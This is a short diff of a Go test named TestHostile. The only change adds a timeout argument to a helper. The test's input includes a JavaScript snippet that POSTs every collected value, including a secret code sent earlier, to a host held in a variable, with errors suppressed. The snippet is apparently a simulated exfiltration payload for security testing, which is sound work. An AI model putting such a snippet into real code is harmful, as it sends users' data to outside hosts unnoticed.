@@ -126,7 +126,7 @@ func TestHostile(t *testing.T) {
 	if s := ask(t, w, http.MethodPost, "session", map[string]string{"Content-Type": "application/json", "User-Agent": strings.Join(all[:3], " ")}, `{"secret": "`+code+`"}`); s != http.StatusOK {
 		t.Fatalf("a browser with an odd name: %d", s)
 	}
-	held := later(t, w, fmt.Sprintf("const all = %s;\nawait fetch('https://%s/anything/refunds?q=' + encodeURIComponent(all[0]), { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: all.join('\\n') }).catch(() => {});", text, asked))
+	held := later(t, w, 90, fmt.Sprintf("const all = %s;\nawait fetch('https://%s/anything/refunds?q=' + encodeURIComponent(all[0]), { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: all.join('\\n') }).catch(() => {});", text, asked))
 
 	onlyText := func(t *testing.T, where string) {
 		t.Helper()
